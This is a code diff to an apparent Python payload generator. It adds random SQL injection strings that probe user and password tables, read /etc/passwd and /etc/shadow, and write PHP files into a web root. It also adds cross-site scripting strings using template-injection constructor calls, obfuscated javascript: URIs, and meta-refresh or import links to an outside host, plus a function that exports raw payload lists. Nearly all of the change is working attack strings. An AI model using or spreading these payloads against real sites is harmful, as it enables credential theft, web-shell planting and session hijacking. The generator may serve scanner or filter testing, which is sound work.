@@ -55,6 +55,15 @@ SQLI: dict[str, Maker] = {
     "order": lambda r: (
         f"{r.randint(1, 9)}{r.choice(('', chr(39)))} {r.choice(('order by', 'group by'))} {r.randint(1, 30)} {_end(r)}"
     ),
+    "case": lambda r: (
+        f"(case when ({r.randint(1, 9)}{r.choice('<=>')}{r.randint(1, 9)}) then {r.randint(1, 12)} else {r.choice(('null', 'abs(-9223372036854775808)', '(select 1 union select 2)'))} end)"
+    ),
+    "exists": lambda r: (
+        f"{r.randint(1, 12)}{r.choice(('', chr(39)))} {r.choice(('and', '&&', 'xor'))} exists(select * from {r.choice(('users', 'sqlite_master', 'pg_shadow', 'mysql.user'))} where {r.choice(('name', 'password', 'user'))} {r.choice(('like', 'glob', 'regexp'))} '{r.choice('abcdrx')}{r.choice('%*')}') {_end(r)}"
+    ),
+    "file": lambda r: (
+        f"{r.choice(('-1', '0'))}{r.choice(('', chr(39), chr(41)))} union select {r.choice(('load_file', 'readfile', 'pg_read_file', 'load_extension'))}({r.choice(('0x2f6574632f706173737764', chr(39) + '/etc/shadow' + chr(39), 'char(47,101,116,99)'))}) {r.choice(('', f'into outfile {chr(39)}/var/www/{r.randint(1, 99)}.php{chr(39)}'))} {_end(r)}"
+    ),
 }
 
 
@@ -93,6 +102,15 @@ XSS: dict[str, Maker] = {
     "style": lambda r: (
         f"<style>@import'//198.51.100.9/{r.randint(1, 99)}.css';</style><svg><animate onbegin={_do(r)} attributeName=x>"
     ),
+    "template": lambda r: (
+        f"{r.choice(('{{', '${', '#{', '<%='))}{r.choice(('constructor.constructor', 'this.constructor.constructor', '[].pop.constructor', '$on.constructor'))}('{r.choice(('alert(1)', 'print()', 'import(name)'))}')(){r.choice(('}}', '}', '%>'))}"
+    ),
+    "spelt": lambda r: (
+        f"<{r.choice(('a href', 'iframe src', 'base href'))}={r.choice(('java&#115;cript:', 'jav&#x09;ascript:', '&#106;avascript&colon;', 'data:text/html;base64,'))}{r.choice(('PHNjcmlwdD4', 'top[8680439..toString(30)](1)', 'self[atob`YWxlcnQ`](1)'))}>"
+    ),
+    "meta": lambda r: (
+        f"{r.choice(('', '-->', '</title>'))}<{r.choice(('meta http-equiv=refresh content', 'link rel=import href', 'object data', 'isindex action'))}={r.choice(('', chr(34)))}{r.randint(0, 9)};url=//198.51.100.9/{r.randint(1, 99)}{r.choice(('.svg', '.xml', '#' + _do(r)))}{r.choice(('', chr(34)))}>"
+    ),
 }
 
 ENCODINGS: dict[str, Callable[[str, Random], str]] = {
@@ -105,6 +123,13 @@ ENCODINGS: dict[str, Callable[[str, Random], str]] = {
     "entity": lambda text, r: quote(text.replace("<", "&lt;").replace("a", "&#97;"), safe=""),
     "blank": lambda text, r: quote(text, safe="").replace("%20", r.choice(("%09", "%0a", "%0b", "+"))),
 }
+
+
+def payloads(makers: dict[str, Maker], families: str, random: Random, how_many: int) -> list[str]:
+    """Payloads of these families, as they are before any encoding, for tools that read lists."""
+    return [makers[random.choice(families.split())](random) for _ in range(how_many)]
+
+
 _PLACES = {
     "sqli": ("/item?id=", "/item?id=", "/search?q=", "/login", "/api/items?sort="),
     "xss": ("/search?q=", "/comments", "/item?id=", "/collect?name="),
